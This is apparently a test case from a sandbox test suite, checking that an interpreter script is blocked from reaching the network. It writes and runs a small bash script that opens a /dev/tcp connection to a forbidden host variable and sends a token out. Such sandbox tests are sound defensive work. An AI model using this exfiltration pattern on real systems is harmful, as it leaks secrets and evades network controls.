#!/usr/bin/python3
# id: e05_script
# title: an interpreter script
# needs: user
# expect: block
# why: the file that runs is the interpreter
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
import subprocess, tempfile
def f():
    p = tempfile.mkdtemp() + '/bot'; open(p, 'w').write(f'#!/bin/bash\nexec 3<>/dev/tcp/{FORB}/8000; echo {TOK} >&3; read -t 2 x <&3\n'); os.chmod(p, 0o755); subprocess.run([p], timeout=8)
attempt(f)
